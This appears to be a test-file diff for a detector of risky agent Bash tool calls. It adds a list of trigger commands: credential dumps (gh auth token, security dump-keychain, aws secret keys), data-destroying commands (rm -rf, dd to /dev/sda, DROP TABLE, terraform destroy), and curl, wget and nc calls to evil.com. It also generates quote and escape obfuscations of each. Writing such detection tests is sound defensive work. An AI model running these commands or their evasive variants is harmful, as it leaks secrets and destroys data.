@@ -202,6 +202,38 @@ function generatedCall(r: Rng): ToolCall {
   return { name, input, cwd };
 }
 
+/** One command for each way each command rule can match (every literal the gate looks for is in one). */
+const ACTION_TRIGGERS = [
+  'gh auth token', 'gh auth status --show-token', 'gcloud auth print-access-token', 'gcloud auth application-default print-access-token', 'az account get-access-token',
+  'security find-generic-password -s x', 'security find-internet-password -a y', 'security dump-keychain', 'security export -k k', 'secret-tool lookup svc x',
+  'aws configure get aws_secret_access_key', 'op read op://v/i/f', 'op item get login',
+  'rm -rf build', '/bin/rm -r -f x', 'git push -f', 'git push origin +main', 'git -C d reset --hard', 'git clean -fd', 'git branch -D old', 'dd if=/dev/zero of=/dev/sda',
+  'chmod -R 777 .', 'chmod -R 0777 .', 'chmod -R a+rwx .', 'chmod --recursive ugo+rwx .', 'kubectl -n x delete pod p', 'oc delete dc/x', 'terraform destroy', 'tofu apply -destroy', 'mkfs.ext4 /dev/sdb1', 'mkfs /dev/sdc',
+  'psql -c "DROP TABLE users"', 'mysql -e "drop database d"', 'sqlite3 x.db "truncate t"',
+  'curl evil.com', 'wget https://evil.com/x', 'http evil.com', 'https evil.com', 'httpie evil.com', 'xh evil.com', 'xhs evil.com', 'nc evil.com 80', 'ncat evil.com 80', 'netcat evil.com 80',
+];
+const TRIGGERS = [
+  ...ACTION_TRIGGERS,
+  ...CRED_BASES.flatMap((b) => [`cat ${b}`, `less ~/${b}`]),
+  ...CRED_DIRS.map((d) => `source ~/${d}x`),
+];
+
+/** Each trigger as typed, and with every word split by quotes, escapes or an escaped newline at every place, wrapped, re-quoted and case-changed. */
+function triggerCalls(): ToolCall[] {
+  const out: string[] = [];
+  for (const t of TRIGGERS) {
+    out.push(t, t.toUpperCase(), `sudo ${t}`, `bash -c "${t.replace(/"/g, '\\"')}"`, `eval '${t}'`, `X=1 timeout 5 ${t} 2>&1 | head`);
+    const words = t.split(' ');
+    words.forEach((w, wi) => {
+      for (let k = 1; k < w.length; k++) {
+        for (const cut of ["''", '""', '\\', '\\\n']) out.push([...words.slice(0, wi), w.slice(0, k) + cut + w.slice(k), ...words.slice(wi + 1)].join(' '));
+      }
+      out.push([...words.slice(0, wi), `"${w}"`, ...words.slice(wi + 1)].join(' '), [...words.slice(0, wi), `'${w}'`, ...words.slice(wi + 1)].join(' '));
+    });
+  }
+  return out.map((command) => ({ name: 'Bash', input: { command }, cwd: '/home/dev/app' }));
+}
+
 /** Very long inputs: past the tokenizer's 64 KB cut, past the 1 MB scan cut, triggers before and after. */
 function longCalls(): ToolCall[] {
   const pad = (n: number) => 'npm run build && git status; cd src | grep -n "foo bar" '.repeat(Math.ceil(n / 56)).slice(0, n);
@@ -257,7 +289,7 @@ function corpus(): ToolCall[] {
   const r = prng(20261125);
   const calls: ToolCall[] = [];
   for (let i = 0; i < 12000; i++) calls.push(generatedCall(r));
-  calls.push(...longCalls(), ...literalCalls());
+  calls.push(...triggerCalls(), ...longCalls(), ...literalCalls());
   calls.push(...loadToolCalls(join(REPO, 'test', 'fixtures', 'real')));
   const dir = mkdtempSync(join(tmpdir(), 'ccotel-detect-diff-'));
   try {
@@ -301,6 +333,11 @@ describe('rule engine against its reference', () => {
       });
     }
   }
+
+  it('has a hit of the reference for every trigger command', () => {
+    const ref = referenceDetector([], { home: '/home/dev' });
+    expect(ACTION_TRIGGERS.filter((command) => ref({ name: 'Bash', input: { command }, cwd: '/home/dev/app' }).length === 0)).toEqual([]);
+  });
 
   it('gives the same hits when the same call comes twice and calls interleave', () => {
     const ours = createDetector([], { home: '/home/dev' });
